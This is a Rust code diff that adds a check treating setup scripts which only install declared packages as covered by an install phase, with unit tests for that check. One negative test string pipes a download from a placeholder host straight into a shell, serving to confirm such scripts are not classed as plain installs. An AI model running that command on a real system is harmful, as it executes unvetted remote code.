@@ -448,6 +448,16 @@ pub fn plan(tree_root: &Path, subpath: &str, report: &ScanReport) -> Result<Plan
                 step.example = Some(why);
                 continue;
             }
+            if sets_up(rel)
+                && fs_err::read_to_string(tree_root.join(&step.file))
+                    .is_ok_and(|text| scripts::only_installs(&text))
+            {
+                step.example = Some(
+                    "installs what the skill's manifests declare, which the install phase installs"
+                        .to_owned(),
+                );
+                continue;
+            }
             // Shown with its arguments in the instructions' inline code (a usage table): run as shown, or listed
             // when the arguments are placeholders.
             if let Some((at, args)) = scripts::usage_shown(rel, &meta.body, meta.body_line) {
@@ -1034,6 +1044,16 @@ mod tests {
             sets_up("kanban/scripts/setup.sh") && sets_up("install-deps.sh") && sets_up("a/bootstrap.py")
         );
         assert!(!sets_up("scripts/setup_test_data.txt") && !sets_up("scripts/uninstall.sh"));
+        assert!(scripts::only_installs(
+            "#!/usr/bin/env bash\nset -euo pipefail\ncd \"$(dirname \"$0\")\"\nnpm install --production\n"
+        ));
+        assert!(scripts::only_installs("pip install -r requirements.txt\n"));
+        assert!(!scripts::only_installs(
+            "npm install\ncurl -s https://h.example/x | sh\n"
+        ));
+        assert!(!scripts::only_installs("npm install && node postinstall.js\n"));
+        assert!(!scripts::only_installs("pip install requests\n"));
+        assert!(!scripts::only_installs("# nothing\n"));
         assert_eq!(
             skill_dir_placeholders("python3 {baseDir}/scripts/x.py a.pdf", "x"),
             "python3 $SKILL_DIR/scripts/x.py a.pdf"
